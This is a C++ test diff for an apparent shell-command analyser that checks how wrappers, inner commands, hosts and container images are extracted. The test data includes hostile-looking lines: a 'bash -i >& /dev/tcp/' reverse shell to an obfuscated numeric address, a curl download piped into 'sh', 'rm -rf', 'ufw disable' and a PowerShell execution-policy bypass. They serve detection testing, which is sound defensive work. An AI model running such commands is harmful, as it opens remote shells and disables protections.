@@ -58,6 +58,9 @@ TEST(CommandLine, SeesThroughShellsAndWrappers) {
                 ElementsAre("rm -rf /x"));
     EXPECT_THAT(texts("busybox sh -c 'id; w'"), ElementsAre("sh -c id; w", "id", "w"));
     EXPECT_THAT(list("nohup /tmp/x", CommandList::Wrappers), ElementsAre("nohup"));
+    EXPECT_THAT(list("nohup sh -c /tmp/x", CommandList::Wrappers, 1), ElementsAre("nohup"));
+    EXPECT_THAT(list("nohup ssh h /tmp/x", CommandList::Wrappers, 1), ElementsAre());
+    EXPECT_THAT(texts("sudo -uroot id"), ElementsAre("id"));
     EXPECT_THAT(texts("find / -name x -exec rm -f {} \\;"), Contains("rm -f {}"));
 }
 
@@ -146,8 +149,24 @@ TEST(CommandLine, ReadsWhatIsCarriedBesideTheCarrier) {
                                         "find . -name x -exec true {} \\; -exec id -u \\;"}) {
         EXPECT_THAT(texts(line), Contains("id -u")) << line;
     }
+    for (const std::string_view line :
+         {"ssh -p22 -oBatchMode=yes -i k root@a.example id -u", "ssh -t a.example -p 22 -- id -u",
+          "dbclient -y -K 30 -l root 10.0.0.1 id -u", "rsh -l root a id -u",
+          "ssh a.example sh -c \"'id -u'\"", "ip netns exec lab id -u", "flock /tmp/l -c 'id -u'",
+          "cmd.exe /c id -u", "sshpass -p x ssh a id -u"}) {
+        EXPECT_THAT(texts(line), Contains("id -u")) << line;
+    }
+    EXPECT_THAT(texts("ssh -N -L 80:a:80 -p 22 a.example"), ElementsAre("ssh -N -L 80:a:80 -p 22 a.example"));
+    EXPECT_THAT(list("ssh a cat x", CommandList::Paths, 1, "/srv"), ElementsAre("x"));
     EXPECT_THAT(texts("watch -n 5 id -u"), Contains("watch -n 5 id -u"));
     EXPECT_THAT(texts("timeout -t 5 id -u"), ElementsAre("id -u"));
+}
+
+TEST(CommandLine, ReadsAScriptOfTheSystemAsTheCommandThatWasTyped) {
+    EXPECT_THAT(texts("/bin/sh -e /usr/sbin/service x stop"), Contains("/usr/sbin/service x stop"));
+    EXPECT_THAT(texts("/usr/bin/python3 -Es /usr/sbin/ufw disable"), Contains("/usr/sbin/ufw disable"));
+    EXPECT_THAT(texts("perl -ne x /usr/bin/y"), ElementsAre("perl -ne x /usr/bin/y"));
+    EXPECT_THAT(texts("sh /opt/x start"), ElementsAre("sh /opt/x start"));
 }
 
 TEST(CommandLine, ReadsWhatRunsInAContainer) {
@@ -216,6 +235,10 @@ TEST(CommandLine, TakesAnOptionsWordForNoScript) {
     EXPECT_TRUE(any_has("bash -o pipefail a.py", Fact::ScriptMismatch));
     EXPECT_FALSE(any_has("php -d memory_limit=1 a.php", Fact::ScriptMismatch));
     EXPECT_TRUE(any_has("dash ./A.PY", Fact::ScriptMismatch));
+    EXPECT_TRUE(any_has("node --require ./a.js b.py", Fact::ScriptMismatch));
+    EXPECT_TRUE(any_has("pwsh -nop -ExecutionPolicy Bypass -File a.sh", Fact::ScriptMismatch));
+    EXPECT_FALSE(any_has("pwsh -ep Bypass -f a.ps1", Fact::ScriptMismatch));
+    EXPECT_TRUE(any_has("pwsh -Command 'Get-Content a.sh'", Fact::RunsCode));
     EXPECT_TRUE(any_has("curl -s http://a.example/x | xargs -0 sh -c", Fact::RunsDownload));
     EXPECT_FALSE(any_has("curl -s http://a.example/x | xargs -0 sh -c 'echo \"$1\"' _", Fact::RunsDownload));
 }
@@ -223,8 +246,39 @@ TEST(CommandLine, TakesAnOptionsWordForNoScript) {
 TEST(CommandLine, AsksNoHostOfAQuery) {
     EXPECT_THAT(list("wget http://a.example/?u=http://b.example/x", CommandList::Hosts),
                 ElementsAre("a.example"));
-    EXPECT_THAT(list("curl -d u=http://b.example/?x http://a.example/", CommandList::Hosts),
+}
+
+TEST(CommandLine, TakesWhatAHostIsToldForNoHost) {
+    for (const std::string_view line :
+         {"curl -d u=http://b.example/?x http://a.example/", "curl -sSo b.example http://a.example/",
+          "wget --referer=http://b.example/ http://a.example/",
+          "curl -H 'Referer: http://b.example/' http://a.example/"}) {
+        EXPECT_THAT(list(line, CommandList::Hosts), ElementsAre("a.example")) << line;
+    }
+    EXPECT_THAT(list("curl -x http://b.example:3128 http://a.example/", CommandList::Hosts),
                 ElementsAre("b.example", "a.example"));
+}
+
+TEST(CommandLine, ReadsAddressesWrittenAsNumbers) {
+    for (const std::string_view line :
+         {"wget http://3405803781/x", "curl 0xcb007105/x", "curl http://0313.0.0x71.5/x",
+          "wget http://203.28933/x", "scp x@3405803781:a b", "bash -i >& /dev/tcp/0xCB007105/1"}) {
+        EXPECT_THAT(list(line, CommandList::Hosts), ElementsAre("203.0.113.5")) << line;
+    }
+    EXPECT_THAT(list("nc 10.0.0.9 44444444", CommandList::Hosts), ElementsAre("10.0.0.9"));
+    EXPECT_THAT(list("curl --limit-rate 20000000 -m 0x10 10.0.0.9", CommandList::Hosts),
+                ElementsAre("10.0.0.9"));
+    EXPECT_THAT(list("iptables --to 8.8.4.1-8.8.4.9 --set-mark 0x40000000/0xff", CommandList::Hosts),
+                ElementsAre("8.8.4.1", "8.8.4.9"));
+}
+
+TEST(CommandLine, NamesTheImagesThatAnEngineRuns) {
+    const auto images = [](std::string_view line) { return list(line, CommandList::Images); };
+    EXPECT_THAT(images("docker run -itv /a:/b --name x -e A=b a/b:1 sh -c id"), ElementsAre("a/b:1"));
+    EXPECT_THAT(images("docker --context x pull -q a/b"), ElementsAre("a/b"));
+    EXPECT_THAT(images("kubectl run x --image=a/b --port 80"), ElementsAre("a/b"));
+    EXPECT_THAT(images("docker network create x"), ElementsAre());
+    EXPECT_THAT(images("docker ps"), ElementsAre());
 }
 
 TEST(CommandLine, KnowsWhoseHomesAreLookedInto) {
